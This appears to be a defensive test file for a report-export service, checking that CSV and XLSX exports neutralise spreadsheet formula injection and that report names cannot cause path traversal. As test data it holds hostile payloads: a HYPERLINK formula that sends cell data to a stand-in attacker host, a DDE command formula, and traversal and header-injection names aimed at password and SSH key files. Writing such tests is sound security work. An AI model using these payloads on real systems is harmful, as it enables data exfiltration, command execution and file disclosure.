/**
 * Issue 8, scenarios 13 and 14, end to end through the worker, with storage on disk and on S3:
 * - formula injection (CWE-1236): text cells starting with = + - @ tab or CR are neutralised with a
 *   leading ' in CSV, by the ClickHouse-formatted path the worker uses and by the JS writer alike
 *   (byte-identical), except text that is data: a signed plain number or ISO date (`-5`, `+1`,
 *   `-2026-12-06`) is left alone; numbers are never text, so a negative number stays a number
 *   (-5.5 is not a formula; only text is neutralised); XLSX holds them as typed string cells, never
 *   formulas;
 * - path traversal: a report named like a path gives a safe storage key, file name and
 *   Content-Disposition, and nothing is written outside the export store (S3: security-files-s3.test.ts).
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { readdirSync, statSync } from 'node:fs';
import { join, relative } from 'node:path';
import { Writable } from 'node:stream';
import ExcelJS from 'exceljs';
import { startTestApp, type TestApp } from './support/test-app.js';
import { exportBody } from '../server/src/features/exports/export-body.js';
import { compileCsvReport, compileReport } from '../server/src/features/reports/compile-query.js';
import { validateDefinition } from '../server/src/features/reports/validate-definition.js';
import { parseCsv } from './support/csv.js';
import { createReport, downloadOk, exportAndFollow, expectSafeDisposition } from './support/exports.js';

const TENANT = 'hostile';
/** Text a spreadsheet would run, and text it would not (the control group). */
const FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '=1+1', '-1+1', '+A1', '-A1*2', '@SUM(A1:A9)', '\tcmd', '\r=cmd', '＝1+1', '＋1', '－1', '＠x', '=cmd|\' /C calc\'!A0'];
const PLAIN = ['plain', "it's fine", 'a=b', ' =leading space', '1-2'];
/** Text that starts with + or - and is data all the same (a signed plain number or ISO date): left alone. */
const SIGNED_DATA = ['+1', '-5', '-12.5', '-1.5E+10', '-2026-12-06', '-2026-12-06T10:00:00Z'];
const VALUES = [-5.5, -1, 0, 3.25, -1e-7];

let app: TestApp;

async function seedHostile(target: TestApp): Promise<void> {
  const users = [...FORMULAS, ...PLAIN, ...SIGNED_DATA];
  const db = target.runtime.analytics.database;
  await target.runtime.analytics.exec(
    `INSERT INTO ${db}.usage_events (tenant_id, timestamp, event_date, event_id, user_id, device_id, session_id, event_type, feature, platform, country, referrer, duration_ms, value, is_error)
     SELECT {t:String}, toDateTime64('2026-01-01 00:00:00', 3, 'UTC') + number, toDate('2026-01-01'), generateUUIDv4(), {u:Array(String)}[number % length({u:Array(String)}) + 1],
            'd', 's', {u:Array(String)}[number % length({u:Array(String)}) + 1], 'f', 'web', 'FR', NULL, 1, {v:Array(Float64)}[number % length({v:Array(Float64)}) + 1], false
     FROM numbers({n:UInt32})`,
    { t: TENANT, u: users, v: VALUES, n: users.length * VALUES.length });
}

const RAW = { source: 'usage_events', dimensions: [{ field: 'user_id' }, { field: 'value' }], rowLimit: 10_000, raw: true };

beforeAll(async () => {
  app = await startTestApp({ seedRows: 1_000, worker: true });
  await seedHostile(app);
});
afterAll(async () => app?.close());

/** As an admin: user_id is PII, shown hashed to the other roles by the default masking policy, and these files must carry the hostile text itself. */
async function createHostileReport(target: TestApp, name: string, definition: unknown = RAW): Promise<string> {
  return createReport(target, await target.token(TENANT, 'admin'), name, definition);
}

class Collect extends Writable {
  chunks: Buffer[] = [];
  override _write(chunk: Buffer, _e: BufferEncoding, cb: () => void) { this.chunks.push(chunk); cb(); }
}

describe('13. formula injection', () => {
  it('CSV: text is neutralised, numbers are left alone, and the engine and JS paths agree byte for byte', async () => {
    const token = await app.token(TENANT, 'admin');
    const reportId = await createHostileReport(app, 'Formulas CSV');
    const { final } = await exportAndFollow(app, token, { reportId, format: 'CSV' });
    expect(final.status).toBe('COMPLETED');
    const file = (await downloadOk(final.downloadUrl)).body;
    const rows = parseCsv(file.toString('utf8'));
    expect(rows[0]).toEqual(['user_id', 'value']);
    const cells = new Map<string, Set<string>>();
    for (const [user, value] of rows.slice(1)) cells.set(user!, (cells.get(user!) ?? new Set()).add(value!));
    for (const text of FORMULAS) expect(cells.has(`'${text}`), JSON.stringify(text)).toBe(true);
    for (const text of PLAIN) expect(cells.has(text), JSON.stringify(text)).toBe(true);
    for (const text of SIGNED_DATA) expect([cells.has(text), cells.has(`'${text}`)], JSON.stringify(text)).toEqual([true, false]);
    expect([...cells.keys()].filter((k) => /^[=+\-@\t\r＝＋－＠]/.test(k)).sort()).toEqual([...SIGNED_DATA].sort());
    // Numbers stay numbers: a negative value is written as is, never prefixed.
    expect([...cells.get("'-1+1")!].sort()).toEqual(['-1', '-1e-7', '-5.5', '0', '3.25']);
    expect([...cells.get('-5')!].sort()).toEqual(['-1', '-1e-7', '-5.5', '0', '3.25']);
    expect(file.toString('utf8')).not.toMatch(/'-5\.5|'-1,|'-1\r/);

    // The same rows through both CSV paths, outside the worker: identical bytes to the download.
    const checked = validateDefinition(RAW, app.runtime.limits);
    if (!checked.valid) throw new Error('invalid');
    const ctx = { tenantId: TENANT, asOf: new Date(final.asOf), database: app.runtime.analytics.database, maxRangeDays: app.runtime.limits.maxRangeDays, timeZone: checked.definition.timeZone };
    const compiled = compileReport(checked.definition, ctx);
    const csv = compileCsvReport(checked.definition, ctx);
    expect(csv.ok).toBe(true);
    const bodies: Record<string, Buffer> = {};
    for (const via of ['engine', 'writer'] as const) {
      const out = new Collect();
      const body = exportBody({
        analytics: app.runtime.analytics, format: 'CSV', compiled, csv: via === 'engine' ? csv : null, signal: new AbortController().signal,
        writer: {
          output: out, columns: compiled.columns.map((c) => ({ key: c.key, label: c.label, kind: c.kind })), options: {},
          meta: { reportName: 'x', tenantId: TENANT, generatedAt: new Date(), timeZone: 'UTC', parameters: [], rowLimit: 10_000, totalRows: rows.length - 1, truncated: false },
        },
      });
      expect(body.via).toBe(via);
      await body.run(() => undefined);
      bodies[via] = Buffer.concat(out.chunks);
    }
    expect(bodies.engine!.equals(bodies.writer!)).toBe(true);
    expect(bodies.engine!.equals(file)).toBe(true);
  });

  it('XLSX: every text is a typed string cell holding the exact text, numbers are numbers, no formula anywhere', async () => {
    const token = await app.token(TENANT, 'admin');
    const reportId = await createHostileReport(app, 'Formulas XLSX');
    const { final } = await exportAndFollow(app, token, { reportId, format: 'XLSX' });
    expect(final.status).toBe('COMPLETED');
    const book = new ExcelJS.Workbook();
    await book.xlsx.load((await downloadOk(final.downloadUrl)).body as any);
    const sheet = book.worksheets[0]!;
    const texts = new Set<string>();
    let formulas = 0;
    sheet.eachRow((row, n) => {
      if (n === 1) return;
      const user = row.getCell(1);
      const value = row.getCell(2);
      if (user.type === ExcelJS.ValueType.Formula || value.type === ExcelJS.ValueType.Formula) formulas++;
      expect(user.type).toBe(ExcelJS.ValueType.String);
      expect(value.type).toBe(ExcelJS.ValueType.Number);
      texts.add(String(user.value));
    });
    expect(formulas).toBe(0);
    // XML readers normalise a bare CR in text to LF (exceljs writes it unescaped): the cell is still text.
    for (const text of [...FORMULAS, ...PLAIN, ...SIGNED_DATA]) expect(texts.has(text.replace(/\r/g, '\n')), JSON.stringify(text)).toBe(true);
  });
});

function filesUnder(dir: string): string[] {
  return readdirSync(dir).flatMap((name) => {
    const path = join(dir, name);
    return statSync(path).isDirectory() ? filesUnder(path) : [path];
  });
}

const TRAVERSAL_NAMES = ['../../etc/passwd', '..\\..\\windows\\win.ini', '/etc/shadow', '%2e%2e%2f%2e%2e%2fetc', 'report\r\nSet-Cookie: x=1', 'a"; filename="evil.exe', '....//....//x', '~/.ssh/id_rsa', '\u202Egnp.exe'];

describe('14. path traversal in report names', () => {
  it('on disk: safe keys, file names and Content-Disposition; nothing outside the export store', async () => {
    const token = await app.token(TENANT, 'admin');
    for (const name of TRAVERSAL_NAMES) {
      const reportId = await createHostileReport(app, name, { source: 'usage_events', measures: [{ fn: 'COUNT' }] } as any);
      const { id, final } = await exportAndFollow(app, token, { reportId, format: 'CSV' });
      expect(final.status).toBe('COMPLETED');
      expect(final.storageKey).toBe(`exports/${TENANT}/${id}.csv`);
      expect(final.fileName).toMatch(/^[a-z0-9-]+_\d{4}-\d{2}-\d{2}_\d{2}h\d{2}\.csv$/);
      expectSafeDisposition((await downloadOk(final.downloadUrl)).headers.get('content-disposition'));
    }
    const store = app.config.exports.dir;
    for (const file of filesUnder(store)) expect(relative(store, file)).toMatch(/^exports\/[a-z0-9_-]+\/[0-9a-f-]{36}\.(csv|xlsx|pdf|json|ndjson)$/);
    // Nothing landed beside the store: the data dir holds only what the app puts there.
    expect(readdirSync(app.config.dataDir).filter((f) => !['exports', 'outbox', 'clickhouse', 'jwt-secret'].includes(f))).toEqual([]);
  });
});
